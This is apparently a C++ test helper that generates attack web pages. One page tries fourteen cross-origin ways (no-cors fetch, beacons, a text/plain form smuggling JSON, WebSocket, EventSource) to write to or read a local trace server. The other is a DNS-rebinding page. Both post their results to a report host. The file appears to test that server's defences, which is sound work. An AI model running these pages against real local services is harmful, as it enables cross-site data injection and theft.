// SPDX-License-Identifier: Apache-2.0
#include "attack/requests/web_pages.hpp"

#include <string_view>

#include "attack/requests/hostile_requests.hpp"

namespace trace::testing {
namespace {

// Shared by both pages: a list of results, with a timeout for each attempt.
constexpr std::string_view prelude = R"js(
const seen = [];
const within = (promise, ms) =>
  Promise.race([promise, new Promise((_, no) => setTimeout(no, ms, "too late"))]);
async function attempt(name, action) {
  let what;
  try { what = await within(action(), 4000); } catch (error) { what = "refused"; }
  seen.push(name + ": " + what);
}
async function read(url) {
  const response = await fetch(url);
  const text = await response.text();
  return response.ok ? "READ " + text.slice(0, 60) : "refused";
}
async function post(url, options) {
  const response = await fetch(url, {method: "POST", body: line, ...options});
  return response.type === "opaque" ? "sent" : response.ok ? "READ" : "refused";
}
const send_report = () =>
  fetch(report, {method: "POST", mode: "no-cors", body: seen.join("\n")});
)js";

constexpr std::string_view other_origin = R"js(
const events = target + "/trace/events", runs = target + "/workflows/runs";
const ndjson = {headers: {"Content-Type": "application/x-ndjson"}};
const bytes = new TextEncoder().encode(line);
const element = (name, fields) => new Promise((yes, no) => {
  const made = Object.assign(document.createElement(name), fields);
  made.onload = yes; made.onerror = no;
  document.body.append(made);
});
function submit_form() {
  return new Promise(yes => {
    const frame = document.createElement("iframe");
    frame.name = "answer";
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", enctype: "text/plain", action: events, target: "answer"});
    const input = document.createElement("input");
    input.name = line.trim().slice(0, -1) + ',"x":"';
    input.value = '"}';
    form.append(input);
    document.body.append(form);
    frame.onload = () => yes("sent");
    form.submit();
  });
}
const stream = () => new Promise((yes, no) => {
  const source = new EventSource(target + "/workflows/runs/good/stream");
  source.addEventListener("trace", event => { source.close(); yes("READ " + event.data.slice(0, 60)); });
  source.onerror = () => { source.close(); no(); };
});
const socket = () => new Promise((yes, no) => {
  const made = new WebSocket(target.replace("http", "ws") + "/workflows/runs");
  made.onopen = () => yes("READ"); made.onerror = no;
});
async function attack() {
  await attempt("fetch without CORS and type", () => post(events, {mode: "no-cors", body: bytes}));
  await attempt("fetch without CORS, text/plain", () => post(events, {mode: "no-cors"}));
  await attempt("fetch with CORS, text/plain", () => post(events, {}));
  await attempt("fetch with CORS, NDJSON", () => post(events, ndjson));
  await attempt("fetch with CORS, no type", () => post(events, {body: bytes}));
  await attempt("beacon, text/plain", async () => (navigator.sendBeacon(events, line), "sent"));
  await attempt("beacon, no type", async () => (navigator.sendBeacon(events, new Blob([line])), "sent"));
  await attempt("form", submit_form);
  await attempt("read", () => read(runs));
  await attempt("read without CORS", async () => (await fetch(runs, {mode: "no-cors"}), "sent"));
  await attempt("image", () => element("img", {src: runs}).then(() => "READ"));
  await attempt("script", () => element("script", {src: runs}).then(() => "READ"));
  await attempt("stream", stream);
  await attempt("WebSocket", socket);
  await send_report();
}
attack();
)js";
constexpr int attempts = 14;

constexpr std::string_view rebinding = R"js(
async function attack() {
  // Until another server responds under the name of this page.
  for (;;) {
    try {
      const response = await fetch("/who", {cache: "no-store"});
      if (await response.text() !== "the attacker") break;
    } catch (error) {}
    await new Promise(yes => setTimeout(yes, 50));
  }
  const ndjson = {headers: {"Content-Type": "application/x-ndjson"}};
  await attempt("store", () => post("/trace/events", ndjson));
  await attempt("store without a type", () => post("/trace/events", {body: new TextEncoder().encode(line)}));
  await attempt("read the runs", () => read("/workflows/runs"));
  await attempt("read a run", () => read("/workflows/runs/good/trace"));
  await attempt("read a stream", () => read("/workflows/runs/good/stream"));
  await send_report();
}
attack();
)js";
constexpr int rebinding_attempts = 5;

std::string quoted(std::string_view text) {
  std::string out = "'";
  for (const char c : text) {
    if (c == '\n') {
      out += "\\n";
    } else {
      out += c;
    }
  }
  return out + "'";
}

std::string page(const std::string& constants, std::string_view script, const std::string& body) {
  return "<!DOCTYPE html><meta charset=utf-8><title>attack</title><body>" + body + "<script>" +
         constants + "const line = " + quoted(hostile_line()) + ";" + std::string(prelude) +
         std::string(script) + "</script></body>";
}

}  // namespace

std::string page_of_another_origin(const std::string& target, const std::string& report,
                                   const std::string& frame) {
  const std::string body = frame.empty() ? "" : "<iframe src='" + frame + "'></iframe>";
  return page("const target = " + quoted(target) + ", report = " + quoted(report) + ";",
              other_origin, body);
}
int attempts_of_another_origin() { return attempts; }

std::string rebinding_page(const std::string& report) {
  return page("const report = " + quoted(report) + ";", rebinding, "");
}
int attempts_after_rebinding() { return rebinding_attempts; }

}  // namespace trace::testing
